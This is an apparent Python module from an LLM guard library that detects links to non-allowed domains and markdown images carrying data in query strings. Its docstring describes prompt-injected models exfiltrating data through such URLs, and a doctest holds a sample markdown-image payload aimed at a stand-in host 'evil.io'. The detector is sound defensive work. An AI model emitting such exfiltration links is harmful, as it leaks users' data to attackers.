"""Links to domains outside an allow-list, and markdown images that exfiltrate data.

A model tricked by an injected instruction often emits a link or a markdown image
whose URL carries stolen data to the attacker's server. Any URL whose host is not an
allowed domain (or a sub-domain of one) is reported; a markdown image with a query
string scores higher. Higher is worse.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlsplit

from watchkeeper.llm.guard._results import ScanFinding, ScanOutcome

__all__ = ["host_is_allowed", "scan_links"]

_URL = re.compile(r"(?i)\b(?:https?://|www\.)[^\s<>\"'`\])}]{1,2048}")
_IMAGE_BEFORE = "]("


def host_is_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    """Whether ``host`` is one of ``allowed`` or a sub-domain of one.

    >>> host_is_allowed("docs.example.com", ("example.com",))
    True
    >>> host_is_allowed("example.com.evil.io", ("example.com",))
    False
    """
    host = host.lower().rstrip(".")
    return any(host == domain or host.endswith("." + domain) for domain in allowed)


def scan_links(text: str, options: Mapping[str, Any]) -> ScanOutcome:
    """Find URLs in ``text`` whose host is not in ``options['allowed_domains']``.

    >>> scan_links("see https://docs.example.com/a", {"allowed_domains": ["example.com"]}).score
    0.0
    >>> out = scan_links("![x](https://evil.io/p.png?q=c2VjcmV0)", {"allowed_domains": []})
    >>> [(f.kind, f.score) for f in out.findings]
    [('markdown_image_exfiltration', 1.0)]
    """
    allowed = tuple(d.lower().lstrip(".") for d in options.get("allowed_domains", ()))
    if "://" not in text and "www." not in text.lower():
        return ScanOutcome.from_findings(())
    findings: list[ScanFinding] = []
    for match in _URL.finditer(text):
        url = match.group().rstrip(".,;:!?")
        if url.lower().startswith("www."):
            url = "http://" + url
        try:
            parts = urlsplit(url)
            host = parts.hostname or ""
        except ValueError:
            host, parts = "", None
        if host and host_is_allowed(host, allowed):
            continue
        end = match.start() + len(match.group().rstrip(".,;:!?"))
        image = text[max(0, match.start() - 2) : match.start()] == _IMAGE_BEFORE and (
            text.rfind("![", max(0, match.start() - 300), match.start()) >= 0
        )
        if image and parts is not None and parts.query:
            findings.append(
                ScanFinding(match.start(), end, "markdown_image_exfiltration", 1.0, 0.9)
            )
        else:
            findings.append(ScanFinding(match.start(), end, "unlisted_domain", 0.8, 0.9))
    return ScanOutcome.from_findings(tuple(findings))
